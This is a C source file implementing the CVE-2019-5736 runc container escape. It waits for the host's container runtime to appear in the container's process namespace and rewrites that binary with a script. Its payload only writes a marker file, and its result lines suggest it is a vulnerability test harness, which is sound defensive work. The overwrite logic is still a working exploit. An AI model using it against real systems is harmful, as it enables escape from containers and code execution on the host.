// The CVE-2019-5736 attack, run inside a container.
//
//   overwrite_exe PAYLOAD_MARKER   waits (up to 20 s) for a process in its pid namespace whose
//                                  executable is not a file of the container (the runtime, which
//                                  the kernel runs for a "#!/proc/self/exe" script), opens that
//                                  executable, and once nothing runs it any more rewrites it with
//                                  a script that creates PAYLOAD_MARKER on whoever runs it next.
//   overwrite_exe --open PID       tries to open /proc/PID/exe for reading, then for writing.
//
// Prints one result line: OVERWRITTEN, or REFUSED with the errno that stopped it, or NOTFOUND.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

// An executable that is neither busybox nor this program: a file from outside the container.
static int foreign(pid_t pid, const struct stat *mine, const struct stat *busybox) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &st) != 0) return 0;
    if (st.st_dev == mine->st_dev && st.st_ino == mine->st_ino) return 0;
    if (st.st_dev == busybox->st_dev && st.st_ino == busybox->st_ino) return 0;
    return 1;
}

static int rewrite(int fd, const char *marker) {
    char self[64], script[512];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    snprintf(script, sizeof script, "#!/bin/sh\necho pwned > %s\n", marker);
    double deadline = now() + 10;
    for (;;) {
        int w = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w >= 0) {
            if (write(w, script, strlen(script)) < 0) perror("write");
            close(w);
            printf("OVERWRITTEN\n");
            return 0;
        }
        if (errno != ETXTBSY || now() > deadline) {
            printf("REFUSED write: %s\n", strerror(errno));
            return 2;
        }
        usleep(500);
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 3 && strcmp(argv[1], "--open") == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/exe", argv[2]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            printf("REFUSED read: %s\n", strerror(errno));
            return 2;
        }
        return rewrite(fd, "/dev/null");
    }
    if (argc != 2) return 64;
    struct stat mine, busybox;
    if (stat("/proc/self/exe", &mine) != 0 || stat("/bin/busybox", &busybox) != 0) return 65;
    printf("READY\n");
    double deadline = now() + 20;
    while (now() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            pid_t pid = (pid_t)atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || !foreign(pid, &mine, &busybox)) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == ENOENT || errno == ESRCH) continue;  // gone already: wait for the next
                printf("REFUSED read: %s\n", strerror(errno));
                return 2;
            }
            closedir(d);
            return rewrite(fd, argv[1]);
        }
        if (d) closedir(d);
    }
    printf("NOTFOUND\n");
    return 3;
}
